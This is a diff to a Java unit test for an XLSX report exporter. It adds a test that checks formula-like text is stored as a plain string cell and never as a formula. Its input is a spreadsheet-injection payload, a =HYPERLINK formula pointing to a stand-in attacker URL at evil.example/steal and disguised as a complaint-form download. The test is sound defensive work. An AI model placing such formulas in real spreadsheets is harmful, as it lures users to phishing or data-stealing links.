@@ -12,8 +12,8 @@ import org.apache.poi.xssf.usermodel.XSSFCell;
 import org.apache.poi.xssf.usermodel.XSSFSheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.itaminer.model.report.Report;
-import org.itaminer.index.search.SampleReports;
 import org.junit.jupiter.api.Test;
+import org.itaminer.index.SampleReports;
 
 class XlsxExportTest {
 
@@ -49,6 +49,26 @@ class XlsxExportTest {
             assertEquals(expected, scores.getLastRowNum());
             Row header = scores.getRow(0);
             assertEquals("indicator_name", header.getCell(4).getStringCellValue());
+        }
+    }
+
+    /** Cells are typed: text that would be a formula in a CSV is a string cell, word for word, never a formula. */
+    @Test
+    void aFormulaInTheTextIsAStringCell() throws IOException {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/steal\",\"ดาวน์โหลดแบบฟอร์มร้องเรียน\")";
+        Report r = org.itaminer.index.Agencies.report("aa11bb22cc33", org.itaminer.index.Agencies.MAESAI,
+                org.itaminer.model.report.DocumentKind.PLAN, 2568,
+                org.itaminer.index.Agencies.m(1, hyperlink, "- ประชุมชี้แจงเจ้าหน้าที่"));
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        XlsxExport.write(List.of(r), bytes);
+        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(bytes.toByteArray()))) {
+            Row row = wb.getSheet("Measures").getRow(1);
+            XSSFCell title = (XSSFCell) row.getCell(MeasureTable.measureHeader().indexOf("measure_title"));
+            assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, title.getCellType());
+            assertEquals(hyperlink, title.getStringCellValue());
+            XSSFCell steps = (XSSFCell) row.getCell(MeasureTable.measureHeader().indexOf("steps"));
+            assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, steps.getCellType());
+            assertEquals("- ประชุมชี้แจงเจ้าหน้าที่", steps.getStringCellValue());
         }
     }
 
